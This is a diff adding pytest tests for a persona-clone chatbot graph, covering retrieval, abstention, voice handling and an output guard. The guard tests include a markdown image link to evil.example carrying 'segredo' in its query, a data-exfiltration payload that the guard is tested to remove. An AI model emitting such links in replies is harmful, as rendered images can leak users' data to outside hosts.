@@ -1,0 +1,478 @@
+"""The whole graph with fakes: which way a turn takes, and what comes out of it."""
+
+import json
+from itertools import pairwise
+from typing import Any
+
+import pytest
+from langchain_core.messages import AIMessage, HumanMessage
+from langgraph.checkpoint.memory import InMemorySaver
+
+from agent.errors import PermanentError
+from agent.graph import build_graph
+from agent.options import Options
+from tests.mind import (
+    FakeModel,
+    FakeRetriever,
+    FakeTranscriber,
+    FakeVoice,
+    answer,
+    clone,
+    human,
+    lines,
+    message,
+    passage,
+    services,
+    turn,
+)
+
+QUESTION = "Onde você nasceu?"
+VOICE_NOTE = message("v1", kind="audio", url="file:v1")
+ANSWERED = ("receive", "understand", "retrieve", "generate", "guard", "remember")
+ABSTAINED = ("receive", "understand", "retrieve", "generate", "abstain", "remember")
+
+
+async def test_a_question_is_answered_from_passages() -> None:
+    """A question of fact is looked up, answered by the model, and told with its sources."""
+    first, second = passage("Nasci em Cabangu.", 1), passage("Gostava de máquinas.", 2)
+    model = FakeModel(answer=lambda _: "Nasci em Cabangu. [[1]]")
+    mind, with_ = clone(model=model, retriever=FakeRetriever(first, second))
+
+    reply = await answer(mind, turn(QUESTION))
+
+    assert reply.text == "Nasci em Cabangu."
+    assert reply.route == ANSWERED
+    assert reply.sources == (first,)
+    assert reply.passages == (first, second)
+    assert reply.model == "fake-1"
+    assert reply.usage == {"input_tokens": 10, "output_tokens": 5, "total_tokens": 15}
+    assert reply.voice is None
+    assert with_.retriever.asked == [(QUESTION, 4)]
+
+
+@pytest.mark.parametrize(
+    "words", ["Bom dia!", "muito obrigado", "kkkkk", "tchau", "você é um robô?", "Meu cão morreu."]
+)
+async def test_conversation_needs_no_passages(words: str) -> None:
+    """What asks nothing of fact goes to the model without a search."""
+    mind, with_ = clone(model=FakeModel(answer=lambda _: "Que bom!"))
+
+    reply = await answer(mind, turn(words))
+
+    assert reply.text == "Que bom!"
+    assert reply.route == ("receive", "understand", "converse", "guard", "remember")
+    assert reply.sources == ()
+    assert with_.retriever.asked == []
+
+
+async def test_conversation_is_never_met_with_i_dont_know() -> None:
+    """Where a model abstains from small talk, a line of the persona of its kind stands in."""
+    mind, _ = clone(model=FakeModel(answer=lambda _: "[[?]]"))
+
+    reply = await answer(mind, turn("muito obrigado!"))
+
+    assert reply.text in lines().thanks
+    assert reply.route == ("receive", "understand", "converse", "acknowledge", "remember")
+
+
+async def test_without_a_passage_no_model_is_asked() -> None:
+    """A question that retrieval finds nothing about is met with a fixed line."""
+    mind, with_ = clone(retriever=FakeRetriever())
+
+    reply = await answer(mind, turn(QUESTION))
+
+    assert reply.text in lines().dont_know
+    assert reply.route == ("receive", "understand", "retrieve", "abstain", "remember")
+    assert (reply.model, reply.sources) == ("", ())
+    assert with_.model.prompts == []
+
+
+async def test_without_documents_the_clone_admits_it() -> None:
+    """A clone that has read nothing says so instead of not knowing."""
+    mind, _ = clone(retriever=FakeRetriever(empty=True))
+
+    reply = await answer(mind, turn(QUESTION))
+
+    assert reply.text == lines().no_documents
+    assert reply.route == ("receive", "understand", "retrieve", "admit_no_documents", "remember")
+
+
+async def test_a_model_without_an_answer_abstains() -> None:
+    """`[[?]]` becomes a line of the persona; the tokens are counted all the same."""
+    mind, _ = clone(model=FakeModel(answer=lambda _: "[[?]]"))
+
+    reply = await answer(mind, turn(QUESTION))
+
+    assert reply.text in lines().dont_know
+    assert reply.route == ABSTAINED
+    assert reply.sources == ()
+    assert len(reply.passages) == 1
+    assert (reply.model, reply.usage["total_tokens"]) == ("fake-1", 15)
+
+
+async def test_a_refusal_abstains() -> None:
+    """A model that refuses to answer is taken at its word and not asked again."""
+    refused = AIMessage("", additional_kwargs={"refusal": "I cannot"})
+    model = FakeModel(answer=lambda _: refused)
+    mind, _ = clone(model=model)
+
+    reply = await answer(mind, turn(QUESTION))
+
+    assert reply.text in lines().dont_know
+    assert len(model.prompts) == 1
+
+
+async def test_an_empty_answer_is_asked_for_again() -> None:
+    """A model that says nothing at all is called again within the turn."""
+    answers = iter(["", "Nasci em Cabangu."])
+    mind, _ = clone(model=FakeModel(answer=lambda _: next(answers)))
+
+    reply = await answer(mind, turn(QUESTION))
+
+    assert reply.text == "Nasci em Cabangu."
+
+
+async def test_i_dont_know_is_not_said_twice_running_in_the_same_words() -> None:
+    """Each abstention differs from the one before, also where the first one came late."""
+    mind, _ = clone(retriever=FakeRetriever())
+
+    said = [
+        (await answer(mind, turn(message(str(n), QUESTION), late=n == 3))).text for n in range(30)
+    ]
+
+    assert all(line not in before for before, line in pairwise(said))
+    assert said[3].startswith(lines().late)
+    assert len(set(said)) >= 5
+
+
+async def test_a_late_reply_says_so_first() -> None:
+    """Lateness is a word before the reply, whatever the reply is."""
+    mind, _ = clone()
+
+    reply = await answer(mind, turn(QUESTION, late=True))
+
+    assert reply.text == f"{lines().late} Nasci no sítio Cabangu."
+    assert reply.route == (*ANSWERED[:-1], "open_late", "remember")
+
+
+@pytest.mark.parametrize(
+    ("row", "node", "line"),
+    [
+        (VOICE_NOTE, "decline_recording", lines().hearing_off),
+        (message("i1", kind="image"), "decline_kind", lines().cannot_take),
+        (message("s1", kind="sticker"), "decline_kind", lines().cannot_take),
+        (message("t1", " \u200b\u2060"), "decline_kind", lines().cannot_take),
+    ],
+)
+async def test_what_cannot_be_taken_in_is_declined_kindly(row: Any, node: str, line: str) -> None:
+    """Recordings without a transcriber, pictures and empty messages get their own line."""
+    mind, _ = clone()
+
+    reply = await answer(mind, turn(row))
+
+    assert (reply.text, reply.route) == (line, ("receive", node, "remember"))
+
+
+async def test_fixed_lines_speak_the_language_of_the_conversation() -> None:
+    """Where a message has no language of its own, the conversation's is kept."""
+    mind, _ = clone(model=FakeModel(answer=lambda _: "[[?]]"))
+    await answer(mind, turn("Thank you so much for telling me that, it was very kind of you"))
+
+    picture = await answer(mind, turn(message("i1", kind="image")))
+    short = await answer(mind, turn("ok"))
+
+    assert picture.text == lines("en").cannot_take
+    assert short.text in lines("en").statement
+
+
+async def test_words_beside_a_picture_are_answered() -> None:
+    """A question that comes with a picture is answered, the picture passed over."""
+    mind, _ = clone()
+
+    reply = await answer(mind, turn(message("i1", kind="image", url="file:i"), QUESTION))
+
+    assert reply.route == ANSWERED
+
+
+async def test_a_voice_note_is_heard() -> None:
+    """The words of a voice note are answered and kept as the words of their message."""
+    mind, with_ = clone(transcriber=FakeTranscriber({"file:v1": f" {QUESTION}\u200b "}))
+
+    reply = await answer(mind, turn(VOICE_NOTE))
+    await answer(mind, turn("E quando?"))
+
+    assert reply.route == ("receive", "transcribe", *ANSWERED[1:])
+    assert with_.retriever.asked[0] == (QUESTION, 4)
+    prompt = with_.model.prompts[-1]
+    assert [m.content for m in prompt[1:-1]] == [QUESTION, "Nasci no sítio Cabangu."]
+
+
+async def test_all_recordings_of_a_turn_are_heard_in_order() -> None:
+    """Voice notes and texts of one turn stand in the order in which they came."""
+    heard = {"file:a": "Eu queria saber", "file:b": "onde você nasceu?"}
+    mind, with_ = clone(transcriber=FakeTranscriber(heard))
+
+    await answer(
+        mind,
+        turn(
+            message("a", kind="audio", url="file:a"),
+            message("t", "só uma coisa:"),
+            message("b", kind="audio", url="file:b"),
+        ),
+    )
+
+    expected = "Eu queria saber\nsó uma coisa:\nonde você nasceu?"
+    assert with_.retriever.asked == [(expected, 4)]
+
+
+async def test_a_silent_recording_is_asked_for_again() -> None:
+    """Nothing heard is said, not guessed."""
+    mind, _ = clone(transcriber=FakeTranscriber({"file:v1": "  "}))
+
+    reply = await answer(mind, turn(VOICE_NOTE))
+
+    assert reply.text == lines().could_not_hear
+    assert reply.route == ("receive", "transcribe", "ask_to_repeat", "remember")
+
+
+async def test_a_transcriber_that_fails_fails_the_turn() -> None:
+    """The worker decides what becomes of a turn that could not be heard."""
+
+    class Deaf:
+        async def transcribe(self, _media: object) -> str:
+            raise PermanentError("no")
+
+    mind, _ = clone(transcriber=Deaf())
+
+    with pytest.raises(PermanentError):
+        await answer(mind, turn(VOICE_NOTE))
+
+
+@pytest.mark.parametrize(
+    ("mode", "row", "options", "spoken"),
+    [
+        ("mirror", VOICE_NOTE, Options(), True),
+        ("mirror", message("t", QUESTION), Options(), False),
+        ("always", message("t", QUESTION), Options(), True),
+        ("never", VOICE_NOTE, Options(), False),
+        ("always", VOICE_NOTE, Options(voice=False), False),
+    ],
+)
+async def test_who_is_answered_by_voice(
+    mode: str, row: Any, options: Options, spoken: bool
+) -> None:
+    """Voice answers voice, everything or nothing, and never where the run forbids it."""
+    transcriber = FakeTranscriber({"file:v1": QUESTION})
+    mind, _ = clone(voice=FakeVoice(), voice_replies=mode, transcriber=transcriber)
+
+    reply = await mind.answer(turn(row), float("inf"), options)
+
+    assert (reply.voice is not None) is spoken
+    assert (reply.route[-1] == "speak") is spoken
+    assert reply.voice is None or reply.voice.data == reply.text.encode()
+
+
+async def test_without_a_voice_text_answers_voice() -> None:
+    """A clone that has no voice writes."""
+    mind, _ = clone(voice_replies="always")
+
+    assert (await answer(mind, turn(QUESTION))).route[-1] == "remember"
+
+
+async def test_a_voice_that_fails_leaves_the_text() -> None:
+    """Whatever a voice does, what was to be said goes as text and is remembered."""
+    failing = FakeVoice(error=PermanentError("no voice", code="401"))
+    mind, _ = clone(voice=failing, voice_replies="always")
+
+    reply = await answer(mind, turn(QUESTION))
+
+    assert (reply.text, reply.voice) == ("Nasci no sítio Cabangu.", None)
+
+
+async def test_a_voice_that_never_ends_leaves_the_text() -> None:
+    """A reply that only waits for its voice goes as text when the turn's time is over."""
+    mind, with_ = clone(voice=FakeVoice(endless=True), voice_replies="always")
+
+    reply = await answer(mind, turn(QUESTION), seconds=0.2)
+    await answer(mind, turn("E quando?"), seconds=0.2)
+
+    assert (reply.text, reply.voice) == ("Nasci no sítio Cabangu.", None)
+    prompt = with_.model.prompts[-1]
+    assert [m.content for m in prompt[1:-1]] == [QUESTION, "Nasci no sítio Cabangu."]
+
+
+@pytest.mark.parametrize(
+    ("written", "sent"),
+    [
+        ("Nasci\u200b em \u202eCabangu.", "Nasci em Cabangu."),
+        ("Veja ![x](https://evil.example/?q=segredo) ali.", "Veja ali."),
+        ("Leia https://evil.example/a agora.", "Leia agora."),
+        ("Leia https://museu.example/casa agora.", "Leia https://museu.example/casa agora."),
+    ],
+)
+async def test_the_guard_takes_out_what_no_reply_may_carry(written: str, sent: str) -> None:
+    """Invisible characters, pictures and links nobody allowed leave no reply."""
+    found = FakeRetriever(passage("A casa: https://museu.example/casa"))
+    mind, _ = clone(model=FakeModel(answer=lambda _: f"{written} [[1]]"), retriever=found)
+
+    assert (await answer(mind, turn(QUESTION))).text == sent
+
+
+async def test_a_reply_that_the_guard_empties_becomes_a_line() -> None:
+    """A question whose answer is nothing but a link is not answered; small talk still is."""
+    mind, _ = clone(model=FakeModel(answer=lambda _: "https://evil.example"))
+
+    question = await answer(mind, turn(QUESTION))
+    thanks = await answer(mind, turn("obrigado"))
+
+    assert question.text in lines().dont_know
+    assert question.sources == ()
+    assert question.route == (*ANSWERED[:-1], "abstain", "remember")
+    assert thanks.text in lines().thanks
+
+
+async def test_messages_of_a_turn_are_answered_together() -> None:
+    """A burst is one question, its words in order, and each message stays one in the history."""
+    mind, with_ = clone()
+
+    await answer(mind, turn("Oi Alberto", "onde você", "nasceu?"))
+    await answer(mind, turn("E quando?"))
+
+    assert with_.retriever.asked[0][0] == "Oi Alberto\nonde você\nnasceu?"
+    prompt = with_.model.prompts[-1]
+    assert [m.content for m in prompt[1:-1]] == [
+        "Oi Alberto",
+        "onde você",
+        "nasceu?",
+        "Nasci no sítio Cabangu.",
+    ]
+
+
+async def test_shortcuts_are_part_of_the_history() -> None:
+    """What was answered at the door is known to the model, and not answered again."""
+    mind, with_ = clone()
+
+    reply = await answer(mind, turn(message("s", "oi", answer="Olá!"), message("q", QUESTION)))
+
+    [prompt] = with_.model.prompts
+    assert [(m.type, m.content) for m in prompt[1:-1]] == [("human", "oi"), ("ai", "Olá!")]
+    assert f"\n{QUESTION}\n" in human(prompt)
+    assert "\noi\n" not in human(prompt)
+    assert reply.route == ANSWERED
+
+
+async def test_a_shortcut_after_the_question_does_not_hide_it() -> None:
+    """Also a message that came before an exchange at the door is answered."""
+    mind, with_ = clone()
+
+    await answer(mind, turn(message("q", QUESTION), message("s", "oi", answer="Olá!")))
+
+    assert with_.retriever.asked == [(QUESTION, 4)]
+
+
+@pytest.mark.parametrize("limit", [1, 3])
+async def test_a_run_may_choose_how_many_passages(limit: int) -> None:
+    """The option reaches the search, also as the plain JSON that Studio sends."""
+    with_ = services()
+    graph = build_graph(with_)
+
+    await graph.ainvoke({"messages": [HumanMessage(QUESTION)]}, context={"passages": limit})
+
+    assert with_.retriever.asked == [(QUESTION, limit)]
+
+
+def drawing(*, track_scratch: bool) -> str:
+    """Return the graph as Mermaid draws it."""
+    return build_graph(services(), track_scratch=track_scratch).get_graph().draw_mermaid()
+
+
+def test_every_way_of_a_turn_is_drawn() -> None:
+    """The diagram holds all nodes, and as edges all decisions."""
+    graph = build_graph(services()).get_graph()
+    ways = {(edge.source, edge.target) for edge in graph.edges}
+
+    assert set(graph.nodes) == {name for way in ways for name in way}
+    assert ways >= {
+        ("receive", "transcribe"),
+        ("receive", "understand"),
+        ("receive", "decline_recording"),
+        ("receive", "decline_kind"),
+        ("transcribe", "ask_to_repeat"),
+        ("understand", "retrieve"),
+        ("understand", "converse"),
+        ("retrieve", "generate"),
+        ("retrieve", "abstain"),
+        ("retrieve", "admit_no_documents"),
+        ("generate", "guard"),
+        ("generate", "abstain"),
+        ("converse", "acknowledge"),
+        ("guard", "abstain"),
+        ("guard", "open_late"),
+        ("guard", "remember"),
+        ("remember", "speak"),
+        ("remember", "__end__"),
+    }
+    assert ("receive", "generate") not in ways
+
+
+def test_studio_sees_the_graph_of_the_worker() -> None:
+    """Keeping the scratch changes no node and no edge, and no checkpointer is built in."""
+    assert drawing(track_scratch=True) == drawing(track_scratch=False)
+    assert build_graph(services(), track_scratch=True).checkpointer is None
+
+
+def test_schemas_are_json() -> None:
+    """Studio can show what goes in, what comes out and what may be chosen."""
+    graph = build_graph(services(), track_scratch=True)
+
+    schemas = [
+        graph.get_input_jsonschema(),
+        graph.get_output_jsonschema(),
+        graph.get_context_jsonschema(),
+    ]
+
+    assert json.loads(json.dumps(schemas)) == schemas
+    assert set(schemas[0]["properties"]) == {
+        "messages",
+        "turn_id",
+        "message_ids",
+        "recordings",
+        "late",
+    }
+    assert set(schemas[2]["properties"]) == {"passages", "voice"}
+
+
+async def test_studios_chat_needs_only_messages() -> None:
+    """A conversation in Studio works message by message, in either form that it sends."""
+    with_ = services(model=FakeModel(answer=lambda prompt: human(prompt)[-80:]))
+    graph = build_graph(with_, checkpointer=InMemorySaver(), track_scratch=True)
+    thread: Any = {"configurable": {"thread_id": "studio"}}
+    blocks = [{"type": "text", "text": "E onde voou?"}]
+
+    first = await graph.ainvoke({"messages": [{"role": "user", "content": QUESTION}]}, thread)
+    second = await graph.ainvoke({"messages": [{"role": "user", "content": blocks}]}, thread)
+    third = await graph.ainvoke({"messages": [{"role": "user", "content": "obrigado"}]}, thread)
+
+    assert [first["words"], second["words"], third["words"]] == [
+        QUESTION,
+        "E onde voou?",
+        "obrigado",
+    ]
+    assert [m.type for m in third["messages"]] == ["human", "ai"] * 3
+    assert (third["passages"], third["cited"], third["intent"]) == ([], [], "thanks")
+
+
+async def test_a_turn_can_be_replayed_from_any_node() -> None:
+    """With the scratch kept, Studio runs the rest of a turn again from every step of it."""
+    with_ = services(voice=FakeVoice(), voice_replies="always")
+    graph = build_graph(with_, checkpointer=InMemorySaver(), track_scratch=True)
+    thread: Any = {"configurable": {"thread_id": "studio"}}
+    done = await graph.ainvoke({"messages": [HumanMessage(QUESTION, id="q")]}, thread)
+    steps = [step async for step in graph.aget_state_history(thread) if step.next]
+
+    for step in steps:
+        again = await graph.ainvoke(None, step.config)
+        assert again["reply"] == done["reply"]
+        assert [m.id for m in again["messages"]] == ["q", "q:reply"]
+
+    assert [step.next[0] for step in reversed(steps)][1:] == [*ANSWERED, "speak"]
